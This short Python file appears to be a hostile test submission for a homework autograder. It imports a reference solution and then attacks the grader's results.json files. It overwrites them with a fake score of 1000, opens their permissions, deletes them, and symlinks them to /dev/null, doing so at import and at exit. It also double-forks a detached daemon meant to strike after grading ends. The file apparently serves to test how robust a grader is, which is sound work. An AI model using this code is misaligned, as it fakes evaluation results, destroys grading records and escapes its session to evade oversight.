"""Goes after results.json in every way it can."""
from _honest_attention import *  # noqa: F401,F403  the reference, kept by expected.json

import atexit
import glob
import os
import time

TARGETS = ["/tmp/hw9-corpus-results/results.json", "/autograder/results/results.json"]


def _attack():
    for target in TARGETS + glob.glob("/**/results.json", recursive=False):
        for action in (
            lambda: open(target, "w").write('{"score": 1000, "tests": []}'),
            lambda: os.chmod(target, 0o777),
            lambda: os.remove(target),
            lambda: os.symlink("/dev/null", target),
            lambda: os.makedirs(os.path.dirname(target), exist_ok=True),
        ):
            try:
                action()
            except Exception:
                pass


_attack()
atexit.register(_attack)
try:  # a daemon that leaves the session and strikes after grading should be over
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(1.5)
            _attack()
        os._exit(0)
except OSError:
    pass
